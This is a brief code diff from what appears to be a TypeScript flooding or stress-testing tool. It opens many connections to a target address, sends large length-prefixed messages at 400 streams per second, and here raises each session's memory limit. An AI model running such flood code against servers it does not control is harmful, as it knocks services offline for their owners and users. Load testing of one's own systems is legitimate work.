@@ -8,7 +8,7 @@ const BYTES = 1_048_576;
 const STREAMS_PER_SECOND = 400;
 
 export const work: FloodWork = async ({ address }, stop, report) => {
-  const sessions = Array.from({ length: CONNECTIONS }, () => connect(`http://${address}`));
+  const sessions = Array.from({ length: CONNECTIONS }, () => connect(`http://${address}`, { maxSessionMemory: 1_000 }));
   for (const session of sessions) session.on('error', () => report.count('connection lost'));
   const message = Buffer.alloc(5 + BYTES - 1, 1);
   message.writeUInt32BE(BYTES, 1);
